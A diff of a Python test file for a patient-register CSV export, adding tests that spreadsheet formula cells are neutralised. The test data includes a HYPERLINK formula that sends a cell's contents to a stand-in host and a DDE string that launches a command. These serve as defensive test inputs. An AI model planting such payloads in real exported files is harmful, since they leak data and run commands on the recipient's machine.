@@ -3,8 +3,6 @@
 from __future__ import annotations
 
 import copy
-import csv
-import io
 import stat
 from pathlib import Path
 
@@ -12,17 +10,10 @@ import pytest
 
 from desktop.staff.export import FORMATS, ExportError, export
 from desktop.staff.export.registry_csv import COLUMNS
+from desktop.staff.export.tabular import neutralise
 from desktop.staff.model import RegisterRecord
-from tests.staff.export.conftest import leftovers
-from tests.staff.export.synthetic import GOLDEN_ORGNR, TODAY, wrap
-
-
-def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
-    raw = path.read_bytes()
-    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM for Excel nb-NO"
-    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";")
-    header, *body = list(reader)
-    return header, [dict(zip(header, row, strict=True)) for row in body]
+from tests.staff.export.conftest import leftovers, read_csv
+from tests.staff.export.synthetic import GOLDEN_ORGNR, TODAY, assert_valid, golden_payload, wrap
 
 
 def test_formats_are_the_four_documented() -> None:
@@ -36,7 +27,7 @@ def test_dialect_header_and_one_row_per_diagnosis(
     result = export("csv", demo_register, path, today=TODAY)
     assert result.count == len(demo_register)
     assert result.files == (path,)
-    header, rows = read_rows(path)
+    header, rows = read_csv(path)
     assert header == list(COLUMNS)
     assert len(rows) == sum(len(r.payload["diagnoses"]) for r in demo_register)
     raw = path.read_bytes()
@@ -59,7 +50,7 @@ def test_dialect_header_and_one_row_per_diagnosis(
 def test_golden_record_cells(golden: RegisterRecord, out_dir: Path) -> None:
     path = out_dir / "golden.csv"
     export("csv", [golden], path, today=TODAY)
-    _, (first, second) = read_rows(path)
+    _, (first, second) = read_csv(path)
     patient = golden.payload["patient"]
     assert first["record_id"] == golden.record_id
     assert first["revision"] == "2"
@@ -106,7 +97,7 @@ def test_only_the_current_revision_is_exported(golden: RegisterRecord, out_dir: 
     path = out_dir / "current.csv"
     result = export("csv", [golden, older], path, today=TODAY)
     assert result.count == 1
-    _, rows = read_rows(path)
+    _, rows = read_csv(path)
     assert {row["revision"] for row in rows} == {"2"}
     assert "Zzyxeldre" not in path.read_text(encoding="utf-8-sig")
 
@@ -142,5 +133,49 @@ def test_bad_destinations_and_formats_are_refused(golden: RegisterRecord, out_di
 def test_no_records_gives_a_header_only_file(out_dir: Path) -> None:
     path = out_dir / "empty.csv"
     assert export("csv", [], path, today=TODAY).count == 0
-    header, rows = read_rows(path)
+    header, rows = read_csv(path)
     assert header == list(COLUMNS) and rows == []
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"Klikk")'
+
+
+def test_formula_cells_are_neutralised(out_dir: Path) -> None:
+    payload = golden_payload()
+    payload["patient"]["family_name"] = FORMULA
+    payload["patient"]["given_names"] = "@SUM(A1)"
+    payload["patient"]["phone"] = "+47 912 34 567"  # a phone number stays as it is
+    payload["reporter"]["comment"] = "-2+3\tmore"
+    payload["diagnoses"][0]["institution"]["name"] = "+cmd|' /C calc'!A0"
+    path = out_dir / "injection.csv"
+    export("csv", [wrap(assert_valid(payload))], path, today=TODAY)
+    _, (first, second) = read_csv(path)
+    assert first["family_name"] == "'" + FORMULA
+    assert first["given_names"] == "'@SUM(A1)"
+    assert first["reporter_comment"] == "'-2+3\tmore"
+    assert first["institution_name"] == "'+cmd|' /C calc'!A0"
+    assert first["phone"] == "+47 912 34 567"
+    assert second["pid_igg_at_diagnosis"] == "2,5"
+    assert second["family_name"] == "'" + FORMULA  # every row of the record
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("+x", "'+x"),
+        ("-x", "'-x"),
+        ("-", "'-"),
+        ("-1,5", "-1,5"),
+        ("+47 22 33 44 55", "+47 22 33 44 55"),
+        ("-0.25", "-0.25"),
+        ("a=b", "a=b"),
+        ("", ""),
+        ("'quoted", "'quoted"),
+    ],
+)
+def test_neutralise(cell: str, written: str) -> None:
+    assert neutralise(cell) == written
